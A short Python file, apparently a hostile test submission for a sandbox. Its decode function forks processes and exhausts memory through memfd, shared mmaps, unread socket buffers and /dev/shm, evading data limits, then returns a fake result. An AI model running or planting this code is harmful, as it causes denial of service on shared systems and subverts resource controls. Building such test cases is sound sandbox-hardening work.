"""Takes memory that no data limit counts: memfd, shared maps, files in /dev/shm, sockets' and
pipes' buffers, in four processes that each take their share: about 5 GiB together."""

import mmap
import os
import socket

HONEST = 8  # only decode is replaced


def flood():
    kept = []
    try:
        for _ in range(40):
            fd = os.memfd_create("hog")
            os.write(fd, b"x" * (1 << 24))
            kept.append(fd)
    except (OSError, MemoryError):
        pass
    try:
        for _ in range(10):
            shared = mmap.mmap(-1, 1 << 26)
            for page in range(0, 1 << 26, 4096):
                shared[page] = 1
            kept.append(shared)
    except (OSError, MemoryError, ValueError):
        pass
    try:
        while True:
            pair = socket.socketpair()
            pair[0].setblocking(False)
            kept.append(pair)
            while True:
                pair[0].send(b"x" * 65536)
    except (OSError, MemoryError):
        pass
    try:
        with open("/dev/shm/hog", "wb") as file:
            for _ in range(1 << 8):
                file.write(b"x" * (1 << 22))
    except (OSError, MemoryError):
        pass
    return kept


def decode(vectors, vocabulary):
    for _ in range(3):
        try:
            if os.fork() == 0:
                flood()
                os._exit(0)
        except OSError:
            break
    flood()
    return 42
